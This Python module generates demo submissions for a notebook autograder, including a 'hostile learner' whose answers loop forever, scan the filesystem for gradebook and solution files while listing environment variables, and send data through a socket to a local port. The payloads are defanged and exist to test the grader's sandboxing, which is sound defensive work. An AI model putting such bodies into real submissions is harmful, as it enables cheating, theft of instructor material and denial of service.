"""Three sample learners for `autograder demo`: right, partly right, and hostile."""

import re
import textwrap
from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path

import nbformat
from nbformat import NotebookNode

MARKER = re.compile(r"^\s*### (BEGIN|END) SOLUTION.*\n?", re.M)

# Harmless versions of real attacks. Each tells in its error what it got hold of.
LOOP = """\
while True:
    pass
"""
READ = """\
import os
import pathlib

wanted = ("gradebook.db", "solutions", "submitted", "instructor")
found = [str(path) for path in pathlib.Path("/").rglob("*") if path.name in wanted]
found = [path for path in found if "site-packages" not in path]
raise RuntimeError(f"files: {found}, environment: {sorted(os.environ)}")
"""
CONNECT = """\
import socket

socket.create_connection(("127.0.0.1", {port}), timeout=3).sendall(b"stolen")
"""


@dataclass(frozen=True)
class Attack:
    """One attack of the hostile learner: what it tries, and in which exercise."""

    tries: str
    notebook: str
    exercise: str


def right_answers(instructor: Path, released: Path, target: Path) -> None:
    """Write a submission in which every exercise is answered as the course does."""
    _write_answers(instructor, released, target, lambda number, own: own)


def partly_right_answers(instructor: Path, released: Path, target: Path) -> None:
    """Write a submission with every third answer wrong and every third missing."""

    def answer(number: int, own: str) -> str | None:
        return [own, _with_body(own, "return None"), None][number % 3]

    _write_answers(instructor, released, target, answer)


def hostile_answers(
    instructor: Path, released: Path, target: Path, *, port: int
) -> list[Attack]:
    """Write a submission whose first three answers attack; the others are right.

    Parameters
    ----------
    instructor, released : Path
        The module's notebooks, with and without solutions.
    target : Path
        The folder of the submission.
    port : int
        A port of this machine on which somebody listens.

    Returns
    -------
    list of Attack
    """
    bodies = [
        ("to loop for ever", LOOP),
        ("to read other people's files", READ),
        ("to send data through a socket", CONNECT.format(port=port)),
    ]

    def answer(number: int, own: str) -> str:
        return _with_body(own, bodies[number][1]) if number < len(bodies) else own

    names = _write_answers(instructor, released, target, answer)
    return [
        Attack(tries, *name)
        for (tries, _), name in zip(bodies, names[: len(bodies)], strict=True)
    ]


def _write_answers(
    instructor: Path,
    released: Path,
    target: Path,
    answer: Callable[[int, str], str | None],
) -> list[tuple[str, str]]:
    """Fill the released notebooks in; return (notebook, exercise) in order."""
    target.mkdir(parents=True)
    names: list[tuple[str, str]] = []
    for path in sorted(released.glob("*.ipynb")):
        notebook = nbformat.read(path, as_version=4)
        solved = _solutions(nbformat.read(instructor / path.name, as_version=4))
        for cell in notebook.cells:
            grade_id = cell.metadata.get("nbgrader", {}).get("grade_id")
            if grade_id in solved:
                text = answer(len(names), solved[grade_id])
                cell.source = cell.source if text is None else text
                names.append((path.stem, grade_id))
        nbformat.write(notebook, target / path.name)
    return names


def _solutions(notebook: NotebookNode) -> dict[str, str]:
    return {
        cell.metadata.nbgrader.grade_id: MARKER.sub("", cell.source)
        for cell in notebook.cells
        if cell.metadata.get("nbgrader", {}).get("solution")
    }


def _with_body(solution: str, body: str) -> str:
    """Keep the first line of a function's definition, and put `body` in it."""
    head = re.search(r"^def .*?\).*?:\n", solution, flags=re.M | re.S)
    if head is None:  # a class or bare statements: the body runs in the cell
        return body
    return head.group() + textwrap.indent(body, "    ")
